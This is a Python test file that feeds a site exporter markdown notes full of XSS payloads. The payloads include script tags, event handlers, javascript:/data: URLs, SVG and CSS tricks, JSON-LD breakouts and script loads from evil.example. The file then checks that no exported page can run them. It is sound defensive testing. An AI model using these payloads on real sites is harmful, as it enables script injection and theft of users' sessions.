"""A corpus of XSS payloads is exported; no page of the site may then run anything a note wrote.

Every HTML page is parsed (stdlib `html.parser`, which reads `<script>` and `<style>` content as raw
text the way browsers do) and checked: the only scripts are ours (JSON-LD, the search index, the search
asset), no `on*` handler, no `javascript:`/`data:`/`vbscript:` URL, no `style`, iframes only from
YouTube or Vimeo and sandboxed.
"""

from __future__ import annotations

import json
import re
from dataclasses import dataclass, field
from html.parser import HTMLParser
from pathlib import Path
from urllib.parse import urlsplit

import pytest
from click.testing import CliRunner

from xtd_rdf.cli import main

ALERT = "alert(1)"
PAYLOADS = {
    "Script tag.md": "Before <script>alert(1)</script> after.\n\n<SCRIPT SRC=//evil.example/x.js></SCRIPT>\n",
    "Handlers.md": (
        '<img src=x onerror=alert(1)> <body onload=alert(1)> <details open ontoggle="alert(1)">d</details>\n'
        '<a href="https://example.org/" onclick="alert(1)" onmouseover=alert(1)>hover</a>\n'
        "<p/onclick=alert(1)>slash</p> <input autofocus onfocus=alert(1)>\n"
    ),
    "Markdown links.md": (
        "[js](javascript:alert(1)) [JS](JaVaScRiPt:alert(1)) [data](data:text/html;base64,PHNjcmlwdD4=)\n"
        "[vb](vbscript:msgbox(1)) ![img](javascript:alert(1)) <javascript:alert(1)> [ref][r]\n"
        "[spaced]( javascript:alert(1)) [entity](&#106;avascript:alert(1)) [tab](java\tscript:alert(1))\n\n"
        "[r]: javascript:alert(1)\n"
    ),
    "HTML links.md": (
        '<a href="javascript:alert(1)">a</a> <a href=" JAVASCRIPT:alert(1)">b</a>\n'
        '<a href="java&#x09;script:alert(1)">c</a> <a href="&#106;avascript:alert(1)">d</a>\n'
        '<a href="data:text/html,<script>alert(1)</script>">e</a> <a href="vbscript:msgbox(1)">f</a>\n'
        '<img src="data:image/svg+xml,<svg onload=alert(1)>"> <a href="https://example.org/ok">ok</a>\n'
    ),
    "SVG.md": (
        "<svg><script>alert(1)</script></svg> <svg onload=alert(1)><circle r=5 /></svg>\n"
        '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>\n'
        "<svg><animate onbegin=alert(1) attributeName=x dur=1s>"
        '<set attributeName="href" to="javascript:alert(1)"/></animate></svg>\n'
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table>"
        "</mtext></math>\n"
    ),
    "Breakout.md": (
        "---\ntitle: '</script><script>alert(1)</script><!--'\n"
        "description: '<!-- <script> ]]> </script>'\n"
        "tags: ['</script><script>alert(1)</script>', '<img src=x onerror=alert(1)>']\n"
        "aliases: ['\"><svg onload=alert(1)>']\n---\n"
        "Text that lands in JSON-LD: </script><script>alert(1)</script> and <!-- and --> and ]]>.\n"
    ),
    "CSS.md": (
        '<div style="width: expression(alert(1)); background:url(javascript:alert(1))">css</div>\n'
        '<style>body { background: url("javascript:alert(1)") } @import "//evil.example/x.css";</style>\n'
        '<p style="behavior: url(x.htc)">htc</p> <link rel=stylesheet href="javascript:alert(1)">\n'
    ),
    "Frames.md": (
        '<iframe src="https://evil.example/page"></iframe> <iframe src="javascript:alert(1)"></iframe>\n'
        '<iframe srcdoc="<script>alert(1)</script>"></iframe> <frameset><frame src="javascript:alert(1)">\n'
        '<iframe src="https://www.youtube.com/embed/abc" onload="alert(1)" sandbox="allow-top-navigation">'
        "</iframe>\n"
        '<iframe src="https://player.vimeo.com/video/1"></iframe> <iframe src="//youtube.com.evil.example/">'
        "</iframe>\n"
    ),
    "Objects.md": (
        '<object data="javascript:alert(1)"></object>\n'
        '<embed src="data:text/html,<script>alert(1)</script>">\n'
        '<form action="javascript:alert(1)"><button formaction="javascript:alert(1)">go</button></form>\n'
        '<meta http-equiv="refresh" content="0;url=javascript:alert(1)"> <base href="javascript:/">\n'
        '<video poster="javascript:alert(1)"><source src="javascript:alert(1)"></video>\n'
        '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>\n'
    ),
    "Wikilinks.md": (
        "[[Script tag|<img src=x onerror=alert(1)>]] [[<script>alert(1)</script>]] "
        '[[javascript:alert(1)]] #<script> [x](https://example.org/"><script>alert(1)</script>)\n'
        "{{ 7*7 }} {% raw %} ${alert(1)}\n"
    ),
    "Query blocks.md": (
        "```sparql\n# </code></pre><script>alert(1)</script>\nSELECT ?x ?y ?n ?name WHERE {\n"
        '  BIND("<script>alert(1)</script>" AS ?x) BIND(IRI("javascript:alert(1)") AS ?y)\n'
        '  OPTIONAL { ?n schema:alternateName ?name FILTER(CONTAINS(?name, "<")) }\n}\n```\n\n'
        "```sparql\nSELECT <script>alert(1)</script> WHERE {}\n```\n\n"
        "```sparql\nCONSTRUCT { <javascript:alert(1)> schema:name "
        '"<img src=x onerror=alert(1)>" } WHERE {}\n```\n'
    ),
}
OUR_SCRIPT_TYPES = {"application/ld+json", "application/json"}
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "data", "poster", "cite", "xlink:href", "srcset"}
URL_ATTRIBUTES |= {"to", "from", "values", "background", "lowsrc", "dynsrc"}
DANGEROUS = re.compile(r"^(javascript|data|vbscript):", re.I)
VIDEO_HOSTS = {"www.youtube.com", "youtube.com", "www.youtube-nocookie.com", "youtube-nocookie.com"}
VIDEO_HOSTS |= {"player.vimeo.com"}


@dataclass
class Page(HTMLParser):
    """Every element of a page, with the text of its scripts."""

    elements: list[tuple[str, dict[str, str | None]]] = field(default_factory=list)
    scripts: list[tuple[dict[str, str | None], str]] = field(default_factory=list)

    def __post_init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self._script: dict[str, str | None] | None = None

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, dict(attrs)))
        if tag in ("script", "style"):
            self._script = {**dict(attrs), "element": tag}
            self.scripts.append((self._script, ""))

    def handle_data(self, data: str) -> None:
        if self._script is not None:
            attrs, text = self.scripts[-1]
            self.scripts[-1] = (attrs, text + data)

    def handle_endtag(self, tag: str) -> None:
        if tag in ("script", "style"):
            self._script = None


def parse(path: Path) -> Page:
    page = Page()
    page.feed(path.read_text(encoding="utf-8"))
    page.close()
    return page


def problems(page: Page) -> list[str]:
    """What a browser could run on this page."""
    found = [
        f"{attrs['element']} {attrs} {text[:80]!r}" for attrs, text in page.scripts if not _ours(attrs, text)
    ]
    for tag, attrs in page.elements:
        found += [f"<{tag} {name}>" for name in attrs if name.startswith("on") or name in ("style", "srcdoc")]
        for name in URL_ATTRIBUTES & attrs.keys():
            value = "".join(c for c in (attrs[name] or "") if c > " ")  # browsers skip controls and spaces
            if DANGEROUS.match(value):
                found.append(f"<{tag} {name}={attrs[name]!r}>")
        if tag in ("iframe", "frame", "object", "embed", "base", "meta", "form", "frameset"):
            found += _frame(tag, attrs)
    return found


def _ours(attrs: dict[str, str | None], text: str) -> bool:
    if attrs["element"] == "style":  # our validation report's own rules: no URL, import or expression
        return not re.search(r"url\(|@import|expression|javascript|behavior", text, re.I)
    if attrs.get("src"):
        return (attrs["src"] or "").endswith("assets/search.js") and "//" not in (attrs["src"] or "")
    return attrs.get("type") in OUR_SCRIPT_TYPES


def _frame(tag: str, attrs: dict[str, str | None]) -> list[str]:
    if tag == "meta":
        return [f"<meta {attrs}>"] if "http-equiv" in attrs else []
    if tag == "form":  # ours: the search, sent to the site's own index page
        action = attrs.get("action") or "index.html"
        return [] if action.endswith("index.html") and ":" not in action else [f"<form {attrs}>"]
    if tag != "iframe":
        return [f"<{tag} {attrs}>"]
    host = urlsplit(attrs.get("src") or "").hostname or ""
    sandbox = set((attrs.get("sandbox") or "").split())
    ok = host in VIDEO_HOSTS and "sandbox" in attrs and "allow-top-navigation" not in sandbox
    return [] if ok else [f"<iframe {attrs}>"]


@pytest.fixture(scope="module")
def site(tmp_path_factory: pytest.TempPathFactory) -> Path:
    root = tmp_path_factory.mktemp("xss")
    vault = root / "vault"
    vault.mkdir()
    for name, text in PAYLOADS.items():
        (vault / name).write_text(text, encoding="utf-8")
    everything = "\n\n".join(PAYLOADS.values()).replace("---\n", "")
    (vault / "Everything.md").write_text(everything, encoding="utf-8")
    result = CliRunner().invoke(main, ["export", str(vault), "--out", str(root / "out"), "--force"])
    assert result.exit_code in (0, 1) and "Traceback" not in result.output, result.output
    return root / "out"


def test_the_parser_sees_what_a_browser_would_run() -> None:
    page = Page()
    page.feed('<script>x</script><a href=" java\tscript:y" onclick=z><iframe src="https://evil.example/">')
    assert len(problems(page)) == 4


def test_no_page_runs_anything_a_note_wrote(site: Path) -> None:
    pages = sorted(site.rglob("*.html"))
    assert len(pages) > len(PAYLOADS)
    found = {p.relative_to(site).as_posix(): problems(parse(p)) for p in pages}
    assert {path: issues for path, issues in found.items() if issues} == {}


def test_every_note_page_is_published_with_its_text(site: Path) -> None:
    for name in PAYLOADS:
        pages = [p for p in site.glob("notes/*/index.html") if name[:-3] in p.read_text(encoding="utf-8")]
        assert pages, f"no page for {name}"


def test_embedded_json_stays_json_whatever_the_text(site: Path) -> None:
    """`</script>` and `<!--` in a title cannot end the JSON-LD block: it parses, and holds the title."""
    titles = []
    for path in sorted(site.rglob("*.html")):
        for attrs, text in parse(path).scripts:
            if attrs.get("type") in OUR_SCRIPT_TYPES and attrs["element"] == "script":
                data = json.loads(text)
                titles += re.findall(r"</script><script>alert\(1\)</script><!--", json.dumps(data))
    assert titles  # the hostile title reached the JSON-LD, intact as data


def test_safe_video_frames_survive(site: Path) -> None:
    page = parse(site / "notes" / "frames" / "index.html")
    frames = [attrs for tag, attrs in page.elements if tag == "iframe"]
    hosts = {urlsplit(attrs.get("src") or "").hostname for attrs in frames}
    assert hosts == {"www.youtube.com", "player.vimeo.com"}


def test_an_html5_tree_builder_sees_no_more(site: Path) -> None:
    """html5lib builds the DOM as browsers do (foreign content, mis-nested tags): the same checks hold."""
    html5lib = pytest.importorskip("html5lib")
    found = {}
    for path in sorted(site.rglob("*.html")):
        tree = html5lib.parse(path.read_text(encoding="utf-8"), namespaceHTMLElements=False)
        page = Page()
        for element in tree.iter():
            if not isinstance(element.tag, str):
                continue  # comments
            tag = _local(element.tag)
            attrs = {_local(k): v for k, v in element.attrib.items()}
            page.elements.append((tag, attrs))
            if tag in ("script", "style"):
                page.scripts.append(({**attrs, "element": tag}, element.text or ""))
        found[path.relative_to(site).as_posix()] = problems(page)
    assert {path: issues for path, issues in found.items() if issues} == {}


def _local(name: str) -> str:
    """`{http://www.w3.org/1999/xlink}href` → `xlink:href`, `{…svg}script` → `script`."""
    if name.startswith("{http://www.w3.org/1999/xlink}"):
        return "xlink:" + name.split("}")[1]
    return name.split("}")[-1]
